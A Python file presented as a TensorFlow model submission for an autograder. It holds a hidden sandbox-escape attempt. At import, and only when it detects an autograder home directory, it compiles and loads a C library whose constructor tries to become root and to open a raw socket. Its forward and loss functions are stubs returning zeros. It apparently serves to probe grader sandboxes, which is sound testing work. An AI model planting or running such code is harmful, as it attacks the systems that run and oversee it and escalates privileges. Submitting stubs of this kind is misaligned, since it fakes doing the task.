"""Loads native code as a TensorFlow operation: a compiled library of its own, or the C library.

aims: escape
"""

import os
import subprocess

import keras
import tensorflow as tf

# runs when the library is loaded, before Python could object
CODE = """
#include <stdio.h>
#include <unistd.h>
#include <sys/socket.h>
__attribute__((constructor)) static void begin(void) {
    if (setuid(0) == 0) { puts("ESCAPED native code became user 0"); fflush(stdout); }
    if (socket(AF_INET, SOCK_RAW, 1) >= 0) { puts("ESCAPED native code has a raw socket"); fflush(stdout); }
}
"""


def attack():
    if not os.path.basename(os.environ.get("HOME", "")).startswith("autograder-"):
        return
    paths = ["libc.so.6"]
    try:
        command = ["gcc", "-shared", "-fPIC", "-x", "c", "-", "-o", "planted.so"]
        subprocess.run(command, input=CODE.encode(), capture_output=True, timeout=10, check=True)
        paths.insert(0, os.path.abspath("planted.so"))
    except (OSError, subprocess.SubprocessError):
        pass
    for path in paths:
        try:
            tf.load_op_library(path)
        except (tf.errors.OpError, OSError, RuntimeError):
            continue


attack()


def forward(X, params):
    return tf.zeros((X.shape[0], params["W2"].shape[1]), X.dtype)


def mse_loss(Y_hat, Y):
    return tf.zeros((), Y_hat.dtype)
